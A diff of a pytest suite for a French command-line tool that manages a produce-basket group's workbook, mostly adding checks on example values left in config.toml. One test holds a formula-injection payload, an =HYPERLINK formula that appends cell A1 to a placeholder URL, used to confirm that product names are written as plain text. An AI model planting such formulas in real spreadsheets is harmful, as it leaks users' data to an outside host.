@@ -7,6 +7,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from plain import plain
 
 import jobs
 from sync import sheet
@@ -29,7 +30,7 @@ def run(capsys, *argv):
 
 
 def test_init_creates_a_config_and_a_workbook_with_every_tab(folder, capsys):
-    code, out, _ = run(capsys, "init", *NOW)
+    code, out, _ = run(capsys, "init")
     assert code == 0
     assert (folder / "config.toml").exists() and "Configuration créée" in out
     store = LocalWorkbookStore(folder / "paniers.xlsx")
@@ -40,28 +41,69 @@ def test_init_creates_a_config_and_a_workbook_with_every_tab(folder, capsys):
 
 
 def test_init_never_overwrites_a_tab_with_data(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     before = store.read(["Produits", "Clients"])
-    code, out, _ = run(capsys, "init", "--demo", *NOW)
+    code, out, _ = run(capsys, "init", "--demo")
     assert code == 0
-    assert "L'onglet « Produits » contient déjà des données : il est laissé tel quel." in out
+    assert plain(out).startswith("Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets.\n")
+    assert "Données de démonstration non ajoutées : Producteurs, Produits, Ventes, Clients" in plain(out)
     assert store.read(["Produits", "Clients"]) == before
 
 
+def test_init_again_on_a_complete_workbook_says_so_in_one_line(folder, capsys):
+    """Nothing per tab (« laissé tel quel »), nothing about the tabs the tool rewrites itself; what a person must
+    look at (the example values still in config.toml), yes."""
+    run(capsys, "init", "--demo")
+    run(capsys, "check", *NOW)  # Commandes, Par producteur, Anomalies… now hold rows
+    capsys.readouterr()
+    code, out, _ = run(capsys, "init")
+    assert code == 0
+    lines = plain(out).splitlines()
+    assert lines[0] == "Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets."
+    assert len(lines) == 2 and lines[1].startswith("À regarder : config.toml garde des valeurs de l'exemple "
+                                                   "([group] name, [group] coordinator_email, [mail] sender)")
+    assert "tel quel" not in out and "Commandes" not in out and "Anomalies" not in out
+    text = (folder / "config.toml").read_text(encoding="utf-8")
+    for old, new in (("Les Paniers du CIVAM", "Les Paniers de Valençay"), ("animation@example.org", "anne@civam.fr"),
+                     ("paniers@example.org", "paniers@civam.fr")):
+        text = text.replace(f'= "{old}"', f'= "{new}"')
+    (folder / "config.toml").write_text(text, encoding="utf-8")
+    code, out, _ = run(capsys, "init")
+    assert code == 0 and plain(out) == "Rien à faire : le classeur paniers.xlsx a déjà tous ses onglets.\n"
+
+
+def test_check_warns_of_example_values_left_in_the_configuration(folder, capsys):
+    run(capsys, "init", "--demo")
+    code, out, _ = run(capsys, "check", *NOW)
+    assert code == 0
+    expected = ("[group] name dans config.toml est encore la valeur de l'exemple : mettez-y celle du groupe "
+                "(valeur : « Les Paniers du CIVAM »)")
+    assert f"  ! {expected}" in plain(out).splitlines()
+    assert "[mail] sender dans config.toml est encore la valeur de l'exemple" in plain(out)
+    anomalies = LocalWorkbookStore(folder / "paniers.xlsx").read(["Anomalies"])["Anomalies"]
+    rows = [row for row in anomalies[1:] if "valeur de l'exemple" in plain(row[5])]
+    assert [row[1:5] for row in rows] == [["avertissement", "", "", ""]] * 3
+    assert sorted(plain(row[5]).split(" dans ")[0] for row in rows) == [
+        "[group] coordinator_email", "[group] name", "[mail] sender"]
+    run(capsys, "tick", *NOW)  # tick rewrites Anomalies too: the warnings stay until the file is fixed
+    anomalies = LocalWorkbookStore(folder / "paniers.xlsx").read(["Anomalies"])["Anomalies"]
+    assert len([row for row in anomalies[1:] if "valeur de l'exemple" in plain(row[5])]) == 3
+
+
 def test_init_fills_only_the_empty_tabs(folder, capsys):
-    run(capsys, "init", *NOW)
+    run(capsys, "init")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     from sync.stores import Changes
     store.write(Changes(replace={"Produits": [sheet.PRODUCTS.header, ["MINE", "X", "Mon produit", "", "1"]]}))
-    code, _out, _ = run(capsys, "init", "--demo", *NOW)
+    code, _out, _ = run(capsys, "init", "--demo")
     assert code == 0
     assert store.read(["Produits"])["Produits"][1][0] == "MINE"
     assert len(store.read(["Producteurs"])["Producteurs"]) == 9
 
 
 def test_check_reports_in_french_and_writes_anomalies(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     grid = store.read(["Produits"])["Produits"]
     grid[3][4] = "4,8O"  # a typo in a price
@@ -100,7 +142,7 @@ def test_unreadable_now_is_bad_usage(folder, capsys):
 
 
 def test_workbook_open_in_libreoffice(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     (folder / ".~lock.paniers.xlsx#").write_text("x")
     code, _, err = run(capsys, "check", *NOW)
     assert code == 1 and "Fermez-le dans LibreOffice" in err
@@ -110,7 +152,7 @@ def test_config_option_points_elsewhere(tmp_path, capsys):
     config = tmp_path / "ailleurs" / "config.toml"
     config.parent.mkdir()
     config.write_text("[store]\npath = 'groupe.xlsx'\n", encoding="utf-8")
-    code, _, _ = run(capsys, "--config", str(config), "init", *NOW)
+    code, _, _ = run(capsys, "--config", str(config), "init")
     assert code == 0 and (tmp_path / "ailleurs" / "groupe.xlsx").exists()
     code, _, _ = run(capsys, "check", "--config", str(config), *NOW)
     assert code == 0
@@ -133,7 +175,7 @@ def test_console_script_and_python_jobs_py_are_the_same_entry_point(tmp_path):
 
 
 def test_lists_writes_the_documents_of_a_sale(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     code, out, _ = run(capsys, "lists", "--sale", "2026-12", "--out", str(folder / "impressions"), "--now",
                        "2026-12-11 10:00")
     assert code == 0
@@ -146,7 +188,7 @@ def test_lists_writes_the_documents_of_a_sale(folder, capsys):
 
 
 def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     run(capsys, "check", "--now", "2026-12-11 10:00")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     grid = store.read(["Émargement"])["Émargement"]
@@ -164,7 +206,7 @@ def test_check_writes_the_sign_off_tab_and_keeps_a_paid_mark(folder, capsys):
 
 
 def test_a_sale_dated_in_year_9999_is_an_anomaly_of_its_row_and_every_job_goes_on(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     sales = store.read(["Ventes"])["Ventes"]
     row = list(sales[1]) + [""] * (len(sales[0]) - len(sales[1]))
@@ -191,7 +233,7 @@ def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(
 
     from openpyxl import load_workbook
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     products = store.read(["Produits"])["Produits"]
     hostile = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
@@ -213,7 +255,7 @@ def test_plan_out_writes_a_product_named_like_a_formula_as_text_in_xlsx_and_csv(
 
 
 def test_escape_codes_typed_in_a_name_never_reach_the_terminal(folder, capsys):
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     store = LocalWorkbookStore(folder / "paniers.xlsx")
     tab = "Réponses au formulaire 1"
     responses = store.read([tab])[tab]
@@ -248,7 +290,7 @@ def test_a_40000_character_answer_becomes_a_32767_character_cell_ending_with_an_
     from openpyxl import load_workbook
     from python_calamine import CalamineWorkbook
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     path = folder / "paniers.xlsx"
     book = load_workbook(path)  # the answers tab as Google Sheets holds it (50 000 characters a cell), bypassing
     sheet = book["Réponses au formulaire 1"]  # the store, which would cut it on its way in
@@ -276,7 +318,7 @@ def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, cap
 
     from sync.runlock import exclusive
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     path = folder / "paniers.xlsx"
     store = LocalWorkbookStore(path)
     tab = "Réponses au formulaire 1"
@@ -291,7 +333,7 @@ def test_check_waits_for_a_running_tick_and_writes_nothing_meanwhile(folder, cap
         assert "Un autre passage de Paniers est en cours (processus" in out
         assert "« paniers check » s'arrête sans rien écrire" in out
         assert path.read_bytes() == before  # Clients, and everything else, as the tick will find it
-        code, out, _ = run(capsys, "init", *NOW)
+        code, out, _ = run(capsys, "init")
         assert code == 0 and "« paniers init » s'arrête sans rien écrire" in out
     code, out, _ = run(capsys, "check", *NOW)  # the tick done: check does its work
     assert code == 0 and "1 nouveau foyer ajouté" in out
@@ -305,7 +347,7 @@ def test_publish_form_sends_nothing_while_another_run_holds_the_lock(folder, cap
     from sync.commands import Context, publish_form
     from sync.runlock import exclusive
 
-    run(capsys, "init", "--demo", *NOW)
+    run(capsys, "init", "--demo")
     form_id = "1FbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdEF"
     text = (folder / "config.toml").read_text(encoding="utf-8")
     (folder / "config.toml").write_text(text.replace('# form_id = "1FbC..."', f'form_id = "{form_id}"'))
